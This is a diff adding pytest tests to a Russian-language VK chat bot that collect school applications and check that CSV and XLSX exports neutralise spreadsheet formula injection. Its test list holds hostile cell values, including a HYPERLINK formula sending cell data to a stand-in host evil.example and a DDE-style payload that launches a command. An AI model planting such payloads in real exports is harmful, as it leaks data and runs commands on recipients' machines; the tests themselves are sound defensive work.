@@ -7,15 +7,22 @@ the class lives in the bot's behaviour.
 
 from __future__ import annotations
 
+import csv
+import io
 import os
+import re
+import sqlite3
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from bot.config import ConfigError, load_settings, settings_from_dict
-from tests.conftest import ROOT, base_config, bot_pythonpath, toml_dump
+from bot.vkemu import EmulatedUser, VKEmulator
+from core.untrusted import spreadsheet_cell
+from tests.conftest import COORDINATOR, ROOT, base_config, bot_pythonpath, toml_dump
 
 
 # -- class 12: no unauthenticated transport ---------------------------------------------------
@@ -72,3 +79,173 @@ def test_example_config_documents_the_secret() -> None:
     raw = settings_from_dict({"vk": {"token": "t", "group_id": 1, "transport": "longpoll"},
                               "region": {"name": "X"}}, environ={})
     assert raw.vk.transport == "longpoll"  # long poll needs no secret: VK's own server is asked
+
+
+# -- shared helpers for conversations ---------------------------------------------------------
+async def reply_with(user: EmulatedUser, *needles: str, timeout: float = 30.0) -> str:
+    """Read the bot's replies until one contains every needle (a fact, not a quiet window)."""
+    seen = []
+    while True:
+        message = await user.next_reply(timeout=timeout)
+        seen.append(message.text)
+        if all(n in message.text for n in needles):
+            return message.text
+        assert len(seen) < 30, f"no reply with {needles}:\n" + "\n---\n".join(seen)
+
+
+async def apply_as_admin(user: EmulatedUser, org: str, email: str,
+                         full_name: str = "Иванова Ольга Петровна",
+                         phone: str = "+79131234567") -> int:
+    """The whole application through the dialog; returns its number."""
+    await user.send("Начать")
+    await reply_with(user, "Кто Вы")
+    await user.press("Администратор школы")
+    await reply_with(user, "")
+    await user.press("Активация профиля")
+    await reply_with(user, "Вы согласны?")
+    await user.press("Даю согласие")
+    await reply_with(user, "Вопрос 1 из 6")
+    await user.send(org)
+    await reply_with(user, "Вопрос 2 из 6")
+    await user.press("Школа (общее образование)")
+    await reply_with(user, "Вопрос 3 из 6")
+    await user.press("г. Новосибирск")
+    await reply_with(user, "Вопрос 4 из 6")
+    await user.send(full_name)
+    await reply_with(user, "Вопрос 5 из 6")
+    await user.send(phone)
+    await reply_with(user, "Вопрос 6 из 6")
+    await user.send(email)
+    await reply_with(user, "Проверьте заявку")
+    await user.press("Отправить заявку")
+    text = await reply_with(user, "отправлена")
+    return int(re.search(r"Заявка №(\d+)", text).group(1))  # type: ignore[union-attr]
+
+
+# -- class 2: formulas in exports ------------------------------------------------------------
+HOSTILE_ORGS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
+    "+SUM(1,1) школа",
+    "@cmd школа",
+    "-2+3+cmd|' /C calc'!A0",
+    " =1+2 школа с пробелом",
+    "\uff1dSUM(1) школа полноширинная",
+]
+HOSTILE_EMAIL = "=1+1@evil.ru"
+LIVE = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+
+
+def assert_no_live_cell(value: object, where: str) -> None:
+    if isinstance(value, str):
+        assert not value.lstrip(" \u00a0\u3000").startswith(LIVE), f"{where}: live cell {value!r}"
+
+
+def seed_survey(db_path: Path, org_ids: list[int], week: str) -> None:
+    """Six finished survey answers per organisation (more than any anonymity threshold), written
+    while the bot runs, as another process would."""
+    with sqlite3.connect(db_path, timeout=10) as db:
+        municipality = {row[0]: row[1] for row in db.execute(
+            "SELECT id, municipality_id FROM organisations")}
+        vk_id = 70_000
+        for org_id in org_ids:
+            for _ in range(6):
+                vk_id += 1
+                db.execute(
+                    "INSERT INTO survey_answers (week, vk_id, org_id, municipality_id, role,"
+                    " difficulties, confidence, messages, completed, started_at, updated_at)"
+                    " VALUES (?, ?, ?, ?, 'staff', 'none', 3, '10+', 1, 0, 0)",
+                    (week, vk_id, org_id, municipality[org_id]))
+
+
+def document(emulator: VKEmulator, message: object) -> tuple[str, bytes]:
+    attachment = message.attachments[0]  # type: ignore[attr-defined]
+    found = emulator.upload_of(attachment)
+    assert found is not None, attachment
+    return found
+
+
+async def test_hostile_names_never_reach_exports_as_formulas(bot, emulator: VKEmulator,
+                                                              users, tmp_path: Path) -> None:
+    coordinator = users(COORDINATOR, "Галина", "Петрова")
+    await coordinator.send("Начать")
+    await coordinator.next_reply(timeout=30)
+    ids = []
+    for n, org in enumerate(HOSTILE_ORGS):
+        ids.append(await apply_as_admin(users(300 + n, "Ольга", "Иванова"), org,
+                                        HOSTILE_EMAIL if n == 0 else f"school{n}@example.ru"))
+
+    # the applications CSV
+    await coordinator.send("выгрузка")
+    message = await coordinator.next_reply(timeout=30)
+    while not message.attachments:
+        message = await coordinator.next_reply(timeout=30)
+    name, data = document(emulator, message)
+    assert name.endswith(".csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    assert len(rows) == 1 + len(HOSTILE_ORGS)
+    for r, row in enumerate(rows):
+        for c, value in enumerate(row):
+            assert_no_live_cell(value, f"applications.csv row {r} col {c}")
+    cells = {value for row in rows for value in row}
+    for org in HOSTILE_ORGS:  # the data is kept, only disarmed
+        assert "'" + " ".join(org.split()) in cells, org  # names are stored without extra blanks
+    assert "'" + HOSTILE_EMAIL in cells and "'+79131234567" in cells
+
+    # the survey summary of each hostile organisation, as XLSX and CSV
+    with sqlite3.connect(tmp_path / "data" / "bot.sqlite3") as db:
+        org_ids = [row[0] for row in db.execute("SELECT id FROM organisations ORDER BY id")]
+    week = "2026-W47"
+    seed_survey(tmp_path / "data" / "bot.sqlite3", org_ids, week)
+    for org_id in org_ids:
+        for fmt in ("xlsx", "csv"):
+            await coordinator.send(f"сводка {week} орг {org_id} {fmt}")
+            message = await coordinator.next_reply(timeout=30)
+            assert message.attachments, message.text
+            name, data = document(emulator, message)
+            assert name.endswith(fmt)
+            if fmt == "csv":
+                for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"):
+                    for value in row:
+                        assert_no_live_cell(value, f"summary.csv org {org_id}")
+                continue
+            book = load_workbook(io.BytesIO(data))  # formulas stay formulas when read this way
+            texts = []
+            for sheet in book.worksheets:
+                for row in sheet.iter_rows():
+                    for cell in row:
+                        assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: formula"
+                        assert_no_live_cell(cell.value, f"{sheet.title}!{cell.coordinate}")
+                        texts.append(cell.value)
+            assert any(isinstance(t, str) and t.startswith("'") for t in texts), \
+                "the hostile organisation name is in the summary, disarmed"
+
+
+def test_every_export_writes_through_the_one_neutraliser() -> None:
+    """A new export (csv.writer or an openpyxl workbook) must write rows through
+    core.untrusted.spreadsheet_row: every writerow / worksheet append line names it."""
+    exporters = []
+    for path in sorted([*ROOT.glob("core/*.py"), *ROOT.glob("handlers/*.py"),
+                        *ROOT.glob("storage/*.py"), *ROOT.glob("bot/*.py")]):
+        source = path.read_text(encoding="utf-8")
+        if "csv.writer" not in source and "Workbook(" not in source:
+            continue
+        exporters.append(path.name)
+        sheets = set(re.findall(r"(\w+) = (?:book\.active|book\.create_sheet\()", source))
+        for line in source.splitlines():
+            writes = "writerow(" in line or any(f"{sheet}.append(" in line for sheet in sheets)
+            if writes:
+                assert "spreadsheet_row" in line, f"{path.name}: {line.strip()}"
+    assert {"coordination.py", "summaries.py"} <= set(exporters)
+
+
+@pytest.mark.parametrize("value", [*HOSTILE_ORGS, HOSTILE_EMAIL, "@cmd", "\tTAB", "\rCR",
+                                   "\uff0b1", "\uff20x", "-1", "+7 913"])
+def test_spreadsheet_cell_disarms_every_live_start(value: str) -> None:
+    safe = spreadsheet_cell(value)
+    assert safe == "'" + value and not safe.startswith(LIVE)
+
+
+def test_spreadsheet_cell_keeps_our_numbers_and_plain_text() -> None:
+    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(0.25) == 0.25
+    assert spreadsheet_cell(None) is None and spreadsheet_cell("Школа №5") == "Школа №5"
+    assert spreadsheet_cell("a\x01b\x1fc") == "abc"  # XLSX cannot hold these
